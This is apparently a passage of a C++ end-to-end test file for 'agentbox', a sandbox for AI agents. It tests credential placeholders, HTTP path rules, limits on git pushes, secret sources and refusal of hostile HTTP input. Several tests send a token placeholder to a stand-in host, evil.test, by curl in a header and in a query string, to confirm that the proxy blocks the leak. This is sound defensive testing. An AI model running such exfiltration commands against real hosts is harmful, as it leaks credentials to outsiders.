  EXPECT_EQ((*r.report)["enforcement"].value("backend", ""), "microvm") << r.Describe();
  ExpectNoSecretIn(r);
}

// ------------------------------------------------------------ the placeholder elsewhere

// A plain HTTP request to evil.test with the placeholder in a header or in
// the query is refused; the same request without it goes through.
TEST_F(Credentials, PlaceholderSentToAnotherHostOverHttpIsRefused) {
  HostScript evil(sb(), "evil_server.py", kApiServer, {"evil-" + RandomHex(8)});
  ASSERT_GT(evil.port(), 0) << evil.Output();
  const std::string base = "http://evil.test:" + std::to_string(evil.port());
  const std::string code = "curl -sS -o /dev/null --max-time 20 -w '%{http_code}\\n' ";
  RunResult r = Run("[ -n \"$API_TOKEN_PLACEHOLDER\" ] && echo placeholder-set; "
                    "echo \"control $(" + code + base + "/control)\"; "
                    "echo \"header $(" + code + "-H \"Authorization: Bearer $API_TOKEN_PLACEHOLDER\" " + base +
                    "/leak-header)\"; "
                    "echo \"query $(" + code + "\"" + base + "/leak-query?key=$API_TOKEN_PLACEHOLDER\")\"; true");
  EXPECT_EQ(r.status, 0) << r.Describe();
  EXPECT_TRUE(Contains(r.out, "placeholder-set")) << r.Describe();
  EXPECT_TRUE(Contains(r.out, "control 401")) << r.Describe() << evil.Output();  // reached the server, no token
  EXPECT_TRUE(Contains(r.out, "header 403")) << r.Describe();
  EXPECT_TRUE(Contains(r.out, "query 403")) << r.Describe();
  EXPECT_EQ(LinesWith(evil.Output("", 300), "REQ "), std::vector<std::string>{"REQ GET /control auth=none"})
      << evil.Output();
  auto sent = DenialsOf(r, "credentials", "send");
  EXPECT_TRUE(SomeReasonHas(sent, "placeholder for api sent to evil.test")) << r.Describe();
  EXPECT_GE(DenialCount(sent), 2) << r.Describe();
  for (const auto& d : sent) EXPECT_EQ(Text(d, "target"), "evil.test:" + std::to_string(evil.port())) << d.dump();
  ExpectNoSecretIn(r);
}

// evil.test under an http_rule of its own: agentbox terminates its TLS too,
// and the placeholder in the decrypted request is refused the same way.
TEST_F(Credentials, PlaceholderSentToAnotherHostOverTerminatedTlsIsRefused) {
  HostScript evil(sb(), "evil_server.py", kApiServer, {"evil-" + RandomHex(8), ca_->server_pem, ca_->server_key});
  ASSERT_GT(evil.port(), 0) << evil.Output();
  Knobs k;
  k.more_http_rules = "    - host: evil.test\n      allow: [\"* /**\"]\n";
  const std::string base = "https://evil.test:" + std::to_string(evil.port());
  const std::string code = "curl -sS -o /dev/null --max-time 20 -w '%{http_code}\\n' ";
  RunResult r = Run("echo \"control $(" + code + base + "/control)\"; "
                    "echo \"header $(" + code + "-H \"X-Api-Key: $API_TOKEN_PLACEHOLDER\" " + base +
                    "/leak-header)\"; true",
                    k);
  EXPECT_EQ(r.status, 0) << r.Describe();
  EXPECT_TRUE(Contains(r.out, "control 401")) << r.Describe() << evil.Output();
  EXPECT_TRUE(Contains(r.out, "header 403")) << r.Describe();
  EXPECT_EQ(LinesWith(evil.Output("", 300), "REQ "), std::vector<std::string>{"REQ GET /control auth=none"})
      << evil.Output();
  auto sent = DenialsOf(r, "credentials", "send");
  EXPECT_TRUE(SomeReasonHas(sent, "placeholder for api sent to evil.test")) << r.Describe();
  ExpectNoSecretIn(r);
}

// ------------------------------------------------------------ network.http_rules

TEST_F(Credentials, HttpRulesRefuseOtherMethodsAndPaths) {
  // One section per request: "== METHOD PATH", the response head, "status=N".
  const std::string script =
      "req() { echo \"== $1 $2\"; curl -sS --max-time 20 -D - -o /dev/null -w 'status=%{http_code}\\n' -X \"$1\" "
      "${3:+-d \"$3\"} \"" + ApiUrl("") + "$2\"; }; "
      "req GET /repos/acme/x; req POST /repos/acme/x/pulls '{}'; req DELETE /repos/acme/x; req GET /orgs/other";
  RunResult r = Run(script);
  EXPECT_EQ(r.status, 0) << r.Describe();
  auto sections = Sections(Lower(r.out));
  EXPECT_TRUE(Contains(sections["get /repos/acme/x"], "status=200")) << r.Describe();
  EXPECT_TRUE(Contains(sections["post /repos/acme/x/pulls"], "status=200")) << r.Describe();
  for (const char* refused : {"delete /repos/acme/x", "get /orgs/other"}) {
    EXPECT_TRUE(Contains(sections[refused], "status=403")) << refused << "\n" << r.Describe();
    EXPECT_TRUE(Contains(sections[refused], "x-agentbox-denied: http-rule")) << refused << "\n" << r.Describe();
  }
  EXPECT_EQ(ApiRequests(),
            (std::vector<std::string>{"REQ GET /repos/acme/x auth=ok", "REQ POST /repos/acme/x/pulls auth=ok"}))
      << api_->Output();
  auto refused = DenialsOf(r, "network", "request");
  EXPECT_TRUE(SomeReasonHas(refused, "not allowed on api.test by network.http_rules")) << r.Describe();
  EXPECT_GE(DenialCount(refused), 2) << r.Describe();
  EXPECT_TRUE(HasUse(r, {{"secret", "api"}, {"method", "POST"}, {"path", "/repos/acme/x/pulls"}, {"decision", "allow"}}))
      << r.Describe();
  ExpectNoSecretIn(r);
}

// ------------------------------------------------------------ hostile input to a terminated host

TEST_F(Credentials, HostileInputToATerminatedHostIsRefused) {
  WriteFile(sb().ws() + "/hostile.py", kHostileClient);
  const long started = NowMs();
  RunResult r = Run("python3 hostile.py api.test " + std::to_string(api_->port()) + " 25", {}, 90000);
  const long took = NowMs() - started;
  EXPECT_EQ(r.status, 0) << r.Describe();
  ASSERT_TRUE(Contains(r.out, "DONE")) << r.Describe();
  auto result = [&](const std::string& name) {
    auto lines = LinesWith(r.out, "CASE " + name + " ");
    return lines.size() == 1 ? lines[0].substr(6 + name.size()) : std::string("(no single result)");
  };
  // The proxy's refusal: a status of 400 or more, but not 401, which is the
  // upstream's own answer to a request without the token. An HTTP-level
  // case must not end in a mere close.
  auto refused_with_status = [](const std::string& what) {
    const int code = std::atoi(what.c_str());
    return code >= 400 && code != 401;
  };
  EXPECT_EQ(result("control"), "200") << r.Describe() << api_->Output();
  EXPECT_EQ(result("big-header").substr(0, 3), "431") << r.Describe();
  for (const char* name : {"cl-te", "dup-cl", "obs-fold", "host-mismatch"}) {
    EXPECT_TRUE(refused_with_status(result(name))) << name << ": " << result(name) << "\n" << r.Describe();
  }
  // SNI for another host: a TLS refusal, a close, or a status of 400 or more.
  const std::string sni = result("sni-mismatch");
  EXPECT_TRUE(sni.rfind("tls-refused", 0) == 0 || sni.rfind("reset", 0) == 0 || sni == "closed" ||
              refused_with_status(sni))
      << sni << "\n" << r.Describe();
  // Malformed or unfinished handshakes are closed, the stalled ones within
  // the proxy's header timeout (10 s) and some slack.
  for (const char* name : {"bad-hello", "stall-connect", "stall-hello"}) {
    const std::string what = result(name);
    const bool closed = what.rfind("closed ", 0) == 0;
    EXPECT_TRUE(closed) << name << ": " << what << "\n" << r.Describe();
    if (closed) {
      EXPECT_LE(std::atof(what.c_str() + 7), 15.0) << name << ": " << what;
    }
  }
  EXPECT_LT(took, 45000) << r.Describe();
  // The server saw the well-formed request only (a 431 of its own would show as "BAD 431").
  EXPECT_EQ(ApiRequests(), std::vector<std::string>{"REQ GET /repos/acme/control auth=ok"}) << api_->Output();
  for (const auto& use : Uses(r)) {
    if (Text(use, "decision") == "allow") {
      EXPECT_EQ(Text(use, "path"), "/repos/acme/control") << use.dump();
    }
  }
  // One record per client connection, every one for api.test, nothing dialled but loopback.
  auto log = ReadFile(NetworkLog()).value_or("");
  int records = 0;
  for (const auto& line : Lines(log)) {
    auto rec = nlohmann::json::parse(line, nullptr, false);
    ASSERT_FALSE(rec.is_discarded()) << line;
    ++records;
    EXPECT_EQ(Text(rec, "host"), "api.test") << line;
    if (!Text(rec, "address").empty()) {
      EXPECT_EQ(Text(rec, "address"), "127.0.0.1") << line;
    }
  }
  EXPECT_GE(records, 10) << log;  // nine hostile connections and the control
  EXPECT_NE(OutcomeOf(r), "sandbox_error") << r.Describe();
  ExpectNoSecretIn(r);
}

// ------------------------------------------------------------ git over smart HTTP

TEST_F(Credentials, GitCloneAndLsRemoteGetBasicAuth) {
  const std::string marker = "cloned-with-credentials-" + RandomHex();
  StartGitServer(marker);
  if (HasFatalFailure()) return;
  const auto refs = Refs("acme/repo.git");
  RunResult r = Run("export GIT_TERMINAL_PROMPT=0; "
                    "git ls-remote " + GitUrl("acme/repo.git") + "; echo ls-remote=$?; "
                    "git clone -q " + GitUrl("acme/repo.git") + " clone; echo clone=$?; cat clone/README; "
                    "git ls-remote " + GitUrl("other/repo.git") + "; echo other=$?",
                    {}, 90000);
  const std::string server = git_->Output("", 300);
  EXPECT_EQ(r.status, 0) << r.Describe() << server;
  EXPECT_EQ(Field(r.out, "ls-remote"), "0") << r.Describe() << server;
  EXPECT_TRUE(Contains(r.out, refs.at("refs/heads/main") + "\trefs/heads/main")) << r.Describe();
  EXPECT_EQ(Field(r.out, "clone"), "0") << r.Describe() << server;
  EXPECT_TRUE(Contains(r.out, marker)) << r.Describe();
  // A repository outside credentials.git.remotes gets no credentials.
  EXPECT_NE(Field(r.out, "other"), "0") << r.Describe() << server;
  EXPECT_TRUE(Contains(server, "GIT GET /acme/repo.git/info/refs 200 auth=ok")) << server;
  EXPECT_TRUE(Contains(server, "GIT POST /acme/repo.git/git-upload-pack 200 auth=ok")) << server;
  for (const auto& line : LinesWith(server, "GIT ")) {
    if (Contains(line, " /acme/")) {
      EXPECT_TRUE(Contains(line, "auth=ok")) << server;
    }
    if (Contains(line, " /other/")) {
      EXPECT_FALSE(Contains(line, "auth=ok")) << server;
    }
  }
  EXPECT_TRUE(HasUse(r, {{"secret", "git"}, {"host", "git.test"}, {"decision", "allow"}})) << r.Describe();
  ExpectNoSecretIn(r);
}

TEST_F(Credentials, GitPushIsLimitedByRefAndForce) {
  StartGitServer("pushed-" + RandomHex());
  if (HasFatalFailure()) return;
  const std::string main_before = Refs("acme/repo.git").at("refs/heads/main");
  const std::string who = "-c user.name=agent -c user.email=agent@example.invalid";
  RunResult r = Run("export GIT_TERMINAL_PROMPT=0; "
                    "git clone -q " + GitUrl("acme/repo.git") + " clone || exit 10; cd clone; "
                    "echo change >> README; git " + who + " commit -qam agent-one || exit 11; "
                    "echo \"first=$(git rev-parse HEAD)\"; "
                    "echo '== agent/x'; git push origin HEAD:refs/heads/agent/x 2>&1; echo push-agent=$?; "
                    "echo '== main'; git push origin HEAD:main 2>&1; echo push-main=$?; "
                    "git " + who + " commit -q --amend -m agent-amended || exit 12; "
                    "echo '== force'; git push -f origin HEAD:agent/x 2>&1; echo push-force=$?",
                    {}, 90000);
  const std::string server = git_->Output("", 300);
  const std::string first = Field(r.out, "first");
  ASSERT_EQ(first.size(), 40u) << r.Describe() << server;
  EXPECT_EQ(Field(r.out, "push-agent"), "0") << r.Describe() << server;
  EXPECT_NE(Field(r.out, "push-main"), "0") << r.Describe();
  EXPECT_NE(Field(r.out, "push-force"), "0") << r.Describe();
  EXPECT_TRUE(Contains(r.out, "remote: agentbox: push to refs/heads/main refused by policy")) << r.Describe();
  EXPECT_TRUE(Contains(r.out, "remote: agentbox: forced update of refs/heads/agent/x refused by policy"))
      << r.Describe();
  auto sections = Sections(r.out);
  EXPECT_FALSE(Contains(sections["agent/x"], "[remote rejected]")) << r.Describe();
  EXPECT_TRUE(Contains(sections["main"], "[remote rejected]")) << r.Describe();
  EXPECT_TRUE(Contains(sections["force"], "[remote rejected]")) << r.Describe();
  // On the host: agent/x holds the first push, main is as it was.
  const auto refs = Refs("acme/repo.git");
  EXPECT_EQ(refs.count("refs/heads/agent/x") ? refs.at("refs/heads/agent/x") : "", first) << server;
  EXPECT_EQ(refs.at("refs/heads/main"), main_before);
  // Refused pushes never reached the server.
  int receive_packs = 0;
  for (const auto& line : LinesWith(server, "GIT POST ")) receive_packs += Contains(line, "git-receive-pack");
  EXPECT_EQ(receive_packs, 1) << server;
  auto pushes = DenialsOf(r, "credentials", "git-push");
  EXPECT_GE(DenialCount(pushes), 2) << r.Describe();
  ExpectNoSecretIn(r);
}

// ------------------------------------------------------------ where the secret comes from

TEST_F(Credentials, SecretFromAFile) {
  const std::string file = sb().scratch() + "/api-token";
  WriteFile(file, token_ + "\n", 0600);
  Knobs k;
  k.api_from = "{ file: \"" + file + "\" }";
  k.api_token_in_env = false;
  RunResult r = Run("curl -sS --max-time 20 " + ApiUrl("/repos/acme/x"), k);
  EXPECT_EQ(r.status, 0) << r.Describe() << api_->Output();
  EXPECT_TRUE(Contains(r.out, "\"auth\": \"ok\"")) << r.Describe();
  EXPECT_EQ(ApiRequests(), std::vector<std::string>{"REQ GET /repos/acme/x auth=ok"}) << api_->Output();
  ExpectNoSecretIn(r);
}

// A secret file the sandbox could otherwise see (here: in the workspace) is
// denied inside: the supervisor reads it, the command cannot.
TEST_F(Credentials, ASecretFileInsideTheSandboxsTreesIsDeniedThere) {
  const std::string file = sb().ws() + "/api-token";
  WriteFile(file, token_ + "\n", 0600);
  Knobs k;
  k.api_from = "{ file: \"" + file + "\" }";
  k.api_token_in_env = false;
  RunResult r = Run("if cat " + file + " 2>/dev/null; then echo READ; else echo DENIED; fi; curl -sS --max-time 20 " +
                        ApiUrl("/repos/acme/x"),
                    k);
  EXPECT_TRUE(Contains(r.out, "DENIED")) << r.Describe();
  EXPECT_FALSE(Contains(r.out, "READ\n")) << r.Describe();
  EXPECT_TRUE(Contains(r.out, "\"auth\": \"ok\"")) << r.Describe();
  ExpectNoSecretIn(r);
}

TEST_F(Credentials, SecretFromACommand) {
  const std::string file = sb().scratch() + "/api-token";
  WriteFile(file, token_ + "\n", 0600);
  Knobs k;
  k.api_from = "{ command: [cat, \"" + file + "\"] }";
  k.api_token_in_env = false;
  RunResult r = Run("curl -sS --max-time 20 " + ApiUrl("/repos/acme/x"), k);
  EXPECT_EQ(r.status, 0) << r.Describe() << api_->Output();
  EXPECT_TRUE(Contains(r.out, "\"auth\": \"ok\"")) << r.Describe();
  EXPECT_EQ(ApiRequests(), std::vector<std::string>{"REQ GET /repos/acme/x auth=ok"}) << api_->Output();
  ExpectNoSecretIn(r);
}

// A command that fails is a clear error naming the secret: an answer of 500
// or more (to the CONNECT or to the request) that says so, or a run that
// does not start (sandbox_error) with that name in its error.
TEST_F(Credentials, FailingSecretCommandIsAClearError) {
  WriteFile(sb().ws() + "/connect.py", kConnectClient);
  Knobs k;
  k.api_from = "{ command: [sh, -c, \"echo no token today >&2; exit 3\"] }";
  k.api_token_in_env = false;
  RunResult r = Run("echo started; python3 connect.py " + ApiUrl("/repos/acme/x"), k);
  EXPECT_TRUE(ApiRequests().empty()) << api_->Output();
  if (OutcomeOf(r) == "sandbox_error") {
    EXPECT_FALSE(Contains(r.out, "started")) << r.Describe();
    EXPECT_TRUE(Contains(Text(Member(r, "error"), "message"), "credentials.secrets.api")) << r.Describe();
    return;
  }
  auto answers = LinesWith(r.out, "CONNECT ");
  if (answers.empty()) answers = LinesWith(r.out, "STATUS ");
  ASSERT_EQ(answers.size(), 1u) << r.Describe();
  const std::string code = answers[0].substr(answers[0].find(' ') + 1);
  EXPECT_GE(std::atoi(code.c_str()), 500) << r.Describe();
  EXPECT_TRUE(Contains(r.out, "credentials.secrets.api")) << r.Describe();
}

// ------------------------------------------------------------ throughput

TEST_F(Credentials, BulkDownloadThroughTheTerminatingProxy) {
  constexpr long kBytes = 64L << 20;
  Knobs k;
  k.api_rules = R"(["GET /repos/acme/**", "GET /bulk"])";
  RunResult r = Run("curl -sS --max-time 50 -o /dev/null -w 'size=%{size_download}\\nspeed=%{speed_download}\\n' '" +
                        ApiUrl("/bulk?n=" + std::to_string(kBytes)) + "'",
                    k, 90000);
  EXPECT_EQ(r.status, 0) << r.Describe() << api_->Output();
  EXPECT_EQ(Field(r.out, "size"), std::to_string(kBytes)) << r.Describe();
  EXPECT_EQ(ApiRequests(), std::vector<std::string>{"REQ GET /bulk?n=" + std::to_string(kBytes) + " auth=ok"})
      << api_->Output();
  std::cout << "[ throughput ] " << kBytes << " bytes through the terminating proxy at "
            << std::atof(Field(r.out, "speed").c_str()) / (1 << 20) << " MiB/s\n";
}

}  // namespace
}  // namespace agentbox::e2e
